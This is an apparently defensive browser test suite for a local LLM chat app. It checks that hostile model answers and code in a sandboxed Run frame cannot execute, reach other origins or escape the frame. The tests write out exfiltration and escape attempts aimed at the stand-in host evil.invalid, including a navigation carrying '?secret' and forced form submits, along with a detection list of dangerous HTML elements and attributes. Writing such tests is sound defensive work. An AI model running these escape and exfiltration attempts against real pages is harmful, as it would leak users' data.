// threats.md E6: hostile model output and hostile code in the Run frame. Nothing of it may run in
// the page, ask anything of another origin, or reach the page out of the frame. Once with the
// server's policy, and once without, so that the page's own walls are tested too.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { idle, open_page, start_browser, ask, wait_done } from './lib/browser.mjs';
import { start_mock } from './lib/mock_server.mjs';
import { PAYLOADS, RUN_PAYLOADS } from './lib/payloads.mjs';

let browser;
before(async () => {
  browser = await start_browser();
});
after(() => browser?.close());

// Nobody has arrived elsewhere: asked once everything else is over.
const kHeard = 'GET /heard HTTP/1.1';
test('the listener hears what goes out', async () => {
  const page = await browser.newPage();
  await page.goto('http://evil.invalid/heard', { timeout: 1000 }).catch(() => {});
  await page.close();
  assert.deepEqual([...new Set(browser.arrived)], [kHeard]);
});
const arrived = () => browser.arrived.filter((one) => one !== kHeard);

// What must not be in the page whatever the model said.
const strange_nodes = (page) => page.evaluate(() => {
  const bad = [];
  const elements = 'script,iframe,object,embed,img,video,audio,link,meta,base,style,form,input,textarea,button:not([type=button]),svg:not(.icon):not(.katex svg)';
  for (const rich of document.querySelectorAll('.rich')) {
    for (const node of rich.querySelectorAll(elements)) bad.push(node.outerHTML.slice(0, 100));
    for (const node of rich.querySelectorAll('*')) {
      for (const { name, value } of node.attributes) {
        if (name.startsWith('on') || ['src', 'srcset', 'ping', 'action', 'background', 'id'].includes(name)) bad.push(`${name}=${value}`);
        if (name === 'href' && !/^(https?:|mailto:)/i.test(value)) bad.push(`${name}=${value}`);
        if (name === 'style' && /url|fixed/.test(value)) bad.push(`${name}=${value}`);
      }
    }
    for (const link of rich.querySelectorAll('a')) {
      if (!link.rel.includes('noopener') || link.target !== '_blank') bad.push(link.outerHTML);
    }
  }
  return bad;
});

for (const headers of [true, false]) {
  test(`${PAYLOADS.length} hostile answers, ${headers ? 'with' : 'without'} the server's policy`, { timeout: 400_000 }, async (t) => {
    const mock = await start_mock({ headers, token_ms: 0 });
    t.after(mock.close);
    const { page, foreign, close } = await open_page(browser, mock.origin);
    t.after(close);
    await page.evaluate(() => localStorage.setItem('reckon.keep_open', 'true'));
    await page.reload({ waitUntil: 'networkidle0' });
    const requests = mock.requests.length;
    for (let number = 0; number < PAYLOADS.length; ++number) {
      await page.click('.brand button');
      await ask(page, `payload:${number}`);
      await wait_done(page).catch(() => assert.fail(`payload ${number} hangs: ${PAYLOADS[number].answer.slice(0, 80)}`));
      // As a careless reader would: every element under the pointer, and into focus.
      await page.evaluate(() => {
        for (const node of document.querySelectorAll('.rich *')) {
          for (const kind of ['mouseover', 'mouseenter', 'focus']) node.dispatchEvent(new Event(kind, { bubbles: true }));
        }
      });
      const what = `payload ${number}: ${PAYLOADS[number].answer.slice(0, 120)}`;
      assert.deepEqual(await strange_nodes(page), [], what);
      assert.equal(await page.evaluate(() => window.__owned), undefined, what);
      assert.equal(await page.evaluate(() => document.querySelectorAll('#app, #question').length), 2, what);
      assert.deepEqual(foreign, [], what);
    }
    await idle(500);
    assert.deepEqual(arrived(), []);
    assert.deepEqual(foreign, []);
    const allowed = /^(GET \/assets\/|GET \/api\/ps|POST \/api\/show|POST \/v1\/chat\/completions|POST \/tokenize)/;
    assert.deepEqual(mock.requests.slice(requests).filter((one) => !allowed.test(one)), []);
  });
}

test(`${RUN_PAYLOADS.length} hostile pieces of code in the Run frame`, { timeout: 300_000 }, async (t) => {
  const mock = await start_mock({ token_ms: 0 });
  t.after(mock.close);
  const { page, close } = await open_page(browser, mock.origin);
  t.after(close);
  const { SCRIPTS } = await import('./lib/scripts.mjs');
  const title = await page.title();
  for (const { name, code } of RUN_PAYLOADS) {
    SCRIPTS.attack = { thought: 'x', answer: `\`\`\`js\n${code.replaceAll('ORIGIN', mock.origin)}\n\`\`\``, chars: 400 };
    await page.click('.brand button');
    await ask(page, 'say:attack');
    await wait_done(page);
    await page.$eval('.code-head button', (button) => button.click());
    // A worker that closed itself says nothing more; its run is stopped by hand.
    const ended = await page.waitForFunction(
      () => /Done|Failed/.test(document.querySelector('.run-head')?.textContent), { timeout: 4000 },
    ).then(() => true, () => false);
    const output = await page.$eval('.run pre', (pre) => pre.textContent);
    assert.ok(ended || name === 'closing' || name === 'hostile message', `${name} hangs`);
    assert.doesNotMatch(output, /LEAK/, name);
    assert.match(output, /blocked|object/, name);
    assert.equal(await page.$eval('.run pre', (pre) => pre.childElementCount), 0, name);
    assert.equal(await page.evaluate(() => window.__owned), undefined, name);
    assert.deepEqual(arrived(), [], name);
    await page.$$eval('.run-head button', (buttons) => buttons[0].click());
  }
  assert.ok((await page.title()).endsWith('reckon'), title);
  assert.ok(!mock.requests.some((one) => one.includes('DELETE') || one.includes('/api/delete')));
});

// The frame's own window, where its script listens, is attacked as well: what a hostile page could
// do that frames it, and what the frame's document may do.
test('the frame itself: opaque origin, no network, no way out', async (t) => {
  const mock = await start_mock();
  t.after(mock.close);
  const { page, close } = await open_page(browser, mock.origin);
  t.after(close);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.src = 'run.html';
    document.body.append(frame);
    return new Promise((resolve) => { frame.onload = resolve; });
  });
  const frame = page.frames().find((one) => one.url().endsWith('/run.html'));
  const tries = await frame.evaluate(async (origin) => {
    const attempt = async (work) => {
      try {
        return String(await work());
      } catch (error) {
        return `blocked ${error.name}`;
      }
    };
    const image = (src) => new Promise((ok, no) => {
      const img = new Image();
      img.onload = () => ok('LEAK');
      img.onerror = () => no(new Error('x'));
      img.src = src;
    });
    return {
      origin: self.origin,
      fetch: await attempt(() => fetch(`${origin}/v1/models`).then(() => 'LEAK')),
      image: await attempt(() => image(`${origin}/icon.svg`)),
      foreign_image: await attempt(() => image('http://evil.invalid/i.png')),
      parent: await attempt(() => parent.document.title),
      storage: await attempt(() => localStorage.length),
      open: await attempt(() => (open('http://evil.invalid') ? 'LEAK' : 'blocked')),
      top: await attempt(() => { top.location = 'http://evil.invalid'; return 'asked'; }),
      form: await attempt(() => {
        const form = document.createElement('form');
        form.action = 'http://evil.invalid';
        document.body.append(form);
        form.submit();
        return 'asked';
      }),
    };
  }, mock.origin);
  await idle(300);
  assert.equal(tries.origin, 'null');
  for (const [name, result] of Object.entries(tries)) assert.doesNotMatch(result, /LEAK/, name);
  assert.match(tries.parent, /blocked/);
  assert.match(tries.storage, /blocked/);
  assert.equal(page.url(), `${mock.origin}/`);
  await frame.evaluate(() => { location.href = 'http://evil.invalid/navigated?secret'; }).catch(() => {});
  await idle(300);
  assert.deepEqual(arrived(), []);
});
